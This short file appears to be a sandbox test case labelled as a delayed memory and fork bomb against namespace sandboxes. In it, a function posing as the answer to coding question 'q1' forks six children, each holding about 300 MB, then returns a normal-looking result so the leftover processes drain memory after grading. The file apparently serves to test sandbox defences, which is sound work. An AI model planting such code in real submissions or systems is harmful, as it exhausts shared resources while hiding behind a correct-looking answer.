# ---
# attack: 'Answers at once, and lets what it left behind take the memory while nobody waits for an answer.'
# class: 'memory, fork, disk, descriptor, output bombs'
# sandboxes: [namespaces]
# detected: 'While it was tested'
# ---
# %% instead="q1"
def double(x):
    import os
    import time

    for _ in range(6):
        if os.fork() == 0:
            hoard = bytearray(b"x") * (300 * 2**20)
            time.sleep(5)
            os._exit(0)
    time.sleep(0.3)
    return np.asarray(x)

# %% question="q1"
def double(x):
    return np.asarray(x) - 100
